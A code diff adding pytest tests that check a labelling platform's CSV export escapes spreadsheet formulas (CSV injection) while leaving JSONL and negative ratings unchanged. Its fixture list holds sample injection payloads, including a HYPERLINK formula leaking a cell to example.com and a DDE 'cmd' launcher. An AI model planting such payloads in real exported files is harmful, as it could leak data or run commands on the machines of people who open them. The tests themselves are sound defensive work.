@@ -10,8 +10,9 @@ import pytest
 from sqlalchemy import select
 
 from market import results, service
+from market.imports import import_items
 from market.models import Item
-from tests.factories import account, answer, auth, items, project
+from tests.factories import account, answer, auth, items, jsonl, project
 from workers.models import Role
 
 
@@ -80,6 +81,43 @@ def test_export_is_paged_and_streamed(session, setup, monkeypatch):
     monkeypatch.setattr(results, "list_answers", lambda *a, **k: calls.append(k["after"]) or real(*a, **k))
     chunks = list(results.export_lines(session, project=proj, fmt="jsonl"))
     assert len(chunks) == 6 and len(calls) == 2  # two keyset pages of 4, not one big query
+
+
+# OWASP's "CSV Injection": a cell starting with one of = + - @ tab CR is a formula to a spreadsheet.
+FORMULAS = ['=HYPERLINK("http://example.com/?leak="&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\tpadded", "\rreturn", "="]
+PLAIN = ["-0.5", "+3", "1e-3", "plain", "a=b", "", " =spaced", "mid\rline"]
+
+
+def test_csv_export_escapes_text_that_spreadsheets_would_run(session, clock):
+    owner, _ = account(session, Role.REQUESTER, now=clock())
+    proj = project(session, owner, now=clock(), label_schema={"type": "text"})
+    texts = FORMULAS + [p for p in PLAIN if p]  # an answer is never empty
+    import_items(session, project=proj, stream=io.BytesIO(jsonl(
+        [{"external_id": t, "data": {}} for t in texts])), fmt="jsonl", now=clock())
+    service.publish_batch(session, project_id=proj.id, account=owner, now=clock())
+    worker, _ = account(session, Role.WORKER, now=clock())
+    by_ext = {i.external_id: i for i in session.scalars(select(Item).where(Item.project_id == proj.id))}
+    for text in texts:
+        answer(session, by_ext[text], worker, text, now=clock())
+    rows = list(csv.DictReader(io.StringIO("".join(results.export_lines(session, project=proj, fmt="csv")))))
+    for row, text in zip(rows, texts, strict=True):
+        quote = "'" if text in FORMULAS else ""
+        assert (row["answer"], row["external_id"]) == (quote + text, quote + text)
+        assert row["worker_id"] == str(worker.id) and row["is_gold"] == "false"  # numbers and our own words
+    lines = "".join(results.export_lines(session, project=proj, fmt="jsonl")).splitlines()
+    assert [json.loads(line)["answer"] for line in lines] == texts  # JSON is data, never run
+
+
+def test_negative_ratings_are_numbers_in_the_csv_export(session, clock):
+    owner, _ = account(session, Role.REQUESTER, now=clock())
+    proj = project(session, owner, now=clock(), label_schema={"type": "rating", "min": -3, "max": 3})
+    items(session, proj, 1, now=clock())
+    service.publish_batch(session, project_id=proj.id, account=owner, now=clock())
+    worker, _ = account(session, Role.WORKER, now=clock())
+    answer(session, session.scalar(select(Item).where(Item.project_id == proj.id)), worker, -3, now=clock())
+    text = "".join(results.export_lines(session, project=proj, fmt="csv"))
+    assert list(csv.DictReader(io.StringIO(text)))[0]["answer"] == "-3"
 
 
 def test_multi_choice_answers_in_csv_use_pipes(session, clock):
